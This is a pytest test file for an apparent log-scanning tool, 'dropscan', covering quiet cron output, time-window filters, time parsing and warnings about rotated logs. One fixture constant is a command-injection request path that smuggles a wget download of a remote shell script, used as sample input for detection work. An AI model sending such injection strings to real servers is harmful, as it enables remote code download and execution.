"""What a cron job relies on: --quiet prints nothing at all when nothing is new (so cron mails
only news), --since/--until filter by log time, and a lost rotation is said, not hidden."""

from __future__ import annotations

import json
import os
from datetime import UTC, datetime, timedelta

import pytest

from conftest import combined_line, on_a_terminal
from dropscan.cli import app
from dropscan.errors import UsageError
from dropscan.timeutil import parse_when

ATTACK = "/x?c=;wget http://203.0.113.9/a.sh"


def test_quiet_is_silent_on_a_terminal_when_nothing_is_new(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(combined_line(ATTACK))
    state = tmp_path / "state.json"
    rc, out = on_a_terminal(["scan", str(log), "--state", str(state)])
    assert rc == 1 and "TIME" in out and "dropscan: 1 file(s)" in out  # the table header, the summary
    rc, out = on_a_terminal(["scan", str(log), "--state", str(state), "--quiet"])
    assert (rc, out) == (0, "")  # no header, no summary, nothing


def test_quiet_writes_no_file_and_errors_still_reach_stderr(tmp_path, runner):
    log = tmp_path / "access.log"
    log.write_bytes(combined_line("/index.html"))
    for fmt in ("csv", "jsonl", "table", "parquet"):
        out = tmp_path / f"found.{fmt}"
        r = runner.invoke(app, ["scan", str(log), "--quiet", "-f", fmt, "-o", str(out)])
        assert (r.exit_code, r.stdout, r.stderr, out.exists()) == (0, "", "", False), fmt
    r = runner.invoke(app, ["scan", str(log), str(tmp_path / "gone.log"), "--quiet", "-f", "jsonl"])
    assert (r.exit_code, r.stdout) == (2, "")
    assert r.stderr == f"dropscan: error: {tmp_path / 'gone.log'}: no such file or directory\n"


def test_since_and_until_filter_by_log_time(tmp_path, runner):
    now = datetime.now(UTC)
    log = tmp_path / "access.log"
    stamp = "[%d/%b/%Y:%H:%M:%S +0000]"
    log.write_bytes(
        combined_line(ATTACK + "?old", when=(now - timedelta(hours=48)).strftime(stamp))
        + combined_line(ATTACK + "?recent", when=(now - timedelta(hours=2)).strftime(stamp))
    )

    def which(*opts: str) -> list[str]:
        r = runner.invoke(app, ["scan", str(log), "-f", "jsonl", *opts])
        return [json.loads(x)["request"].split("?")[-1].split(" ")[0] for x in r.stdout.splitlines()]

    assert which() == ["old", "recent"]
    assert which("--since", "24h") == ["recent"]
    assert which("--until", "1d") == ["old"]
    assert which("--since", "3d", "--until", "90m") == ["old", "recent"]
    day = (now - timedelta(hours=48)).strftime("%Y-%m-%d")
    assert which("--since", day, "--until", (now - timedelta(hours=24)).isoformat()) == ["old"]
    r = runner.invoke(app, ["scan", str(log), "--since", "yesterday"])
    assert isinstance(r.exception, UsageError) and "use a duration like 24h" in str(r.exception)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("24h", datetime(2026, 11, 26, 12, 0, tzinfo=UTC)),
        ("90m", datetime(2026, 11, 27, 10, 30, tzinfo=UTC)),
        ("1.5d", datetime(2026, 11, 26, 0, 0, tzinfo=UTC)),
        ("2w", datetime(2026, 11, 13, 12, 0, tzinfo=UTC)),
        ("2026-11-27", datetime(2026, 11, 27, tzinfo=UTC)),
        ("2026-11-27T10:00+01:00", datetime(2026, 11, 27, 9, 0, tzinfo=UTC)),
        ("2026-11-27T10:00:00Z", datetime(2026, 11, 27, 10, 0, tzinfo=UTC)),
    ],
)
def test_when_values(text, expected):
    assert parse_when(text, now=datetime(2026, 11, 27, 12, 0, tzinfo=UTC)) == expected


def test_a_rotated_log_that_cannot_be_found_is_a_warning(tmp_path, runner):
    log = tmp_path / "access.log"
    state = tmp_path / "state.json"
    log.write_bytes(combined_line(ATTACK) * 3)
    assert runner.invoke(app, ["scan", str(log), "--state", str(state), "-f", "jsonl"]).exit_code == 1
    os.rename(log, tmp_path / "moved-away")  # rotated somewhere dropscan does not look
    log.write_bytes(combined_line(ATTACK))
    r = runner.invoke(app, ["scan", str(log), "--state", str(state), "-f", "jsonl"])
    assert r.exit_code == 1 and len(r.stdout.splitlines()) == 1
    assert r.stderr.startswith(  # the warning, then what was covered
        f"dropscan: warning: {log}: replaced since the last run and its old content was not found by fingerprint "
        "(looked for every file of its rotation set: access.log.N, -DATE, .gz); lines written to it after line 3 "
        "were not read\ndropscan: 1 file(s)"
    )
    r = runner.invoke(app, ["scan", str(log), "--state", str(state), "-f", "jsonl"])
    assert (r.exit_code, r.stdout, r.stderr) == (0, "", "")  # said once
